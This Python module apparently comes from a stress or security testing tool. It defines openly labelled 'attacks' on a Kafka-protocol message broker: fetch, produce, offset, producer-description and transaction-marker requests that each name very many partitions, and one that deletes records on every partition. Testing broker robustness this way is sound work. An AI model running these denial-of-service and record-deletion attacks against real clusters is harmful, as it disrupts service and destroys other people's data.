"""Attacks with requests that name very many partitions."""

from odradek.protocol.messages.describe_producers import DescribeProducersRequest, TopicRequest
from odradek.protocol.messages.list_offsets import ListOffsetsPartition, ListOffsetsRequest, ListOffsetsTopic
from odradek.protocol.messages.offset_for_leader_epoch import (
    OffsetForLeaderEpochRequest,
    OffsetForLeaderPartition,
    OffsetForLeaderTopic,
)
from odradek.protocol.messages.write_txn_markers import (
    WritableTxnMarker,
    WritableTxnMarkerTopic,
    WriteTxnMarkersRequest,
)

from .attack import Attacker
from .requests import TOPIC, create, delete_records, fetch, produce


def fetch_all(attacker: Attacker) -> None:
    attacker.send(fetch(attacker.size), 12)


def produce_to_all(attacker: Attacker) -> None:
    attacker.send(produce(attacker.size), 9)


def used_topic(attacker: Attacker) -> None:
    create(attacker, attacker.size)
    produce_to_all(attacker)


def delete_all_records(attacker: Attacker) -> None:
    attacker.send(delete_records(attacker.size), 2)


def list_all_offsets(attacker: Attacker) -> None:
    asked = [ListOffsetsPartition(partition_index=n, timestamp=-1) for n in range(attacker.size)]
    topics = [ListOffsetsTopic(name=TOPIC, partitions=asked)]
    attacker.send(ListOffsetsRequest(replica_id=-1, topics=topics), 7)


def thousand(attacker: Attacker) -> None:
    create(attacker, attacker.size)


def large_sessions(attacker: Attacker) -> None:
    """Three fetch sessions of so many partitions."""
    for _ in range(3):
        attacker.send(fetch(attacker.size, session_epoch=0), 12)


def ends_of_epochs(attacker: Attacker) -> None:
    asked = [
        OffsetForLeaderPartition(partition=n, current_leader_epoch=-1, leader_epoch=0) for n in range(attacker.size)
    ]
    topics = [OffsetForLeaderTopic(topic=TOPIC, partitions=asked)]
    attacker.send(OffsetForLeaderEpochRequest(replica_id=-2, topics=topics), 4)


def describe_all_producers(attacker: Attacker) -> None:
    topics = [TopicRequest(name=TOPIC, partition_indexes=range(attacker.size))]
    attacker.send(DescribeProducersRequest(topics=topics), 0)


def mark_all(attacker: Attacker) -> None:
    marker = WritableTxnMarker(
        producer_id=1,
        producer_epoch=0,
        transaction_result=False,
        topics=[WritableTxnMarkerTopic(name=TOPIC, partition_indexes=range(attacker.size))],
        coordinator_epoch=0,
    )
    attacker.send(WriteTxnMarkersRequest(markers=[marker]), 1)
